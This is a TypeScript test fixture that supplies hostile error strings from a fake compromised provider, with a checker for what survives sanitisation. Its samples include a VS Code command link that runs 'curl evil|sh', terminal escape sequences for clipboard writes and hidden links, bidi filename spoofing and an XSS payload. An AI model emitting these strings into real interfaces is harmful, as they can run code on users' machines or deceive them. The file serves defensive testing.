// Strings a hostile relay or a compromised provider sends back, shared by the unit, CLI and
// integration tests so that every sink is fed the same ones.

/** A key the fake providers accept, so a check reaches the answer that echoes it. */
export const ECHOED_KEY = 'sk-test-hostile-0123456789abcdefXYZW';

/** VS Code renders this in a notification as a link that runs the command with its arguments. */
export const COMMAND_LINK = '[Fix your key](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
/** OSC 52: the terminal writes "pwned" to the clipboard. */
export const OSC52 = '\x1b]52;c;cHduZWQ=\x07';
/** OSC 8: a hidden hyperlink. */
export const OSC8 = '\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\';
/** CSI 2J clears the screen; SGR colours; the C1 form of CSI. */
export const CSI = '\x1b[2J\x1b[31mRED\x1b[0m\x9b2J';
/** Right-to-left override and isolates: text that reads differently from what it is. */
export const BIDI = 'gpj.\u202Eexe\u202C \u2066isolated\u2069';

/** One error message with all of them and the key, whole, URL-encoded and base64. */
export function hostileMessage(key = ECHOED_KEY): string {
  return [
    COMMAND_LINK, OSC52, OSC8, CSI, BIDI,
    `key=${key}`,
    `q=${encodeURIComponent(key + '/+=')}`,
    `basic=${Buffer.from(`user:${key}`).toString('base64')}`,
    '<img src=x onerror=alert(1)> **bold** `code` | pipe',
  ].join(' ');
}

/**
 * What of the hostile constructs and the key (in any form) is still in `text`. A Markdown link
 * only counts where something renders Markdown (toasts, tooltip): `links: false` for a terminal or JSON.
 */
export function hostileLeftovers(text: string, opts: { key?: string; links?: boolean } = {}): string[] {
  const key = opts.key ?? ECHOED_KEY;
  const found: string[] = [];
  if (opts.links !== false && /\[[^\]]*\]\s*\((?:command|https?|file):/i.test(text)) found.push('a Markdown link');
  if (/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(text)) found.push('a control character');
  if (/[\u202a-\u202e\u2066-\u2069]/.test(text)) found.push('a bidi control');
  if (text.includes(key)) found.push('the key');
  if (text.includes(encodeURIComponent(key + '/+='))) found.push('the URL-encoded key');
  if (text.includes(Buffer.from(`user:${key}`).toString('base64').slice(8, 40))) found.push('the base64 key');
  for (let n = 8; n < key.length; n++) {
    if (text.includes(key.slice(0, n + 1)) || text.includes(key.slice(-n - 1))) {
      found.push(`a ${n + 1}-character piece of the key`);
      break;
    }
  }
  return found;
}
